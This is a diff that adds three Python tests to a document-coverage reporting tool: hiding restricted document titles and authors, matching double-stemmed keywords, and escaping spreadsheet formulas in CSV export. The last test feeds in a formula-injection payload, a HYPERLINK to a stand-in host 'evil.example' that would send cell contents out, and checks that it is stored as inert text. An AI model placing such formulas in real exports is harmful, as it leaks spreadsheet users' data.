@@ -103,3 +103,63 @@ def test_report_json_is_plain_json_for_other_tools(tiny: tuple[Path, Config], tm
     data = json.loads(paths[0].read_text(encoding="utf-8"))
     assert data["totals"]["documents"] == 4 and data["as_of"].startswith("2026-10-01")
     assert {a["status"] for a in data["areas"]} == {"covered", "missing", "stale"}
+
+
+def test_areas_count_restricted_documents_but_never_show_their_titles_or_authors(
+    tiny: tuple[Path, Config], tmp_path: Path
+) -> None:
+    root, config = tiny
+    write_file(root, "docs/HR/salary-review.md", "Annual leave rules for the salary review board. " * 3,
+               datetime(2026, 9, 1, tzinfo=UTC))  # fmt: skip
+    (root / "docs/HR/salary-review.md.meta.json").write_text(
+        json.dumps({"acl": ["dept:HR"], "title": "Board salary review", "author": "Chief of Staff"}),
+        encoding="utf-8",
+    )
+    with Workspace(config) as ws:
+        ws.ingest(["docs"])
+    report = _report(write_report(config, tmp_path / "out", formats=("json",), as_of=AS_OF))
+    [leave] = [a for a in report.areas if a.area == "Annual leave"]
+    assert leave.documents == 2  # the restricted document is counted ...
+    assert "Board salary review" not in leave.examples  # ... but not named
+    assert "Chief of Staff" not in [name for name, _ in leave.authors]
+    assert leave.examples == ("leave",)
+
+
+def test_area_words_whose_stem_changes_when_stemmed_again_still_match(
+    tiny: tuple[Path, Config], tmp_path: Path
+) -> None:
+    root, config = tiny
+    write_file(
+        root,
+        "docs/HR/travel.md",
+        "Travel expense claims are filed within 30 days.",
+        datetime(2026, 9, 1, tzinfo=UTC),
+    )
+    with Workspace(config) as ws:
+        ws.ingest(["docs"])
+    (root / "knowledge_map.yaml").write_text(
+        "departments:\n  HR:\n    - name: Travel expenses\n      keywords: [travel expense]\n",
+        encoding="utf-8",
+    )  # "expense" stems to "expens", which stems again to "expen"
+    report = _report(write_report(config, tmp_path / "out", formats=("json",), as_of=AS_OF))
+    [travel] = report.areas
+    assert (travel.documents, travel.examples) == (1, ("travel",))
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_kept_as_text(
+    tiny: tuple[Path, Config], tmp_path: Path
+) -> None:
+    import csv
+
+    _, config = tiny
+    log = QueryLog(query_log_path(config.state_dir))
+    log.record(
+        "Sales", '=HYPERLINK("http://evil.example/?"&A1,"click")', {}, 0, 3.0
+    )  # now: analytics cover the days before the report
+    log.close()
+    paths = write_report(config, tmp_path / "out", formats=("csv",), as_of=AS_OF)
+    queries = next(p for p in paths if p.name == "search_queries.csv")
+    with queries.open(encoding="utf-8-sig", newline="") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    assert '\'=hyperlink("http://evil.example/?"&a1,"click")' in cells
+    assert not any(cell.startswith("=") for cell in cells)
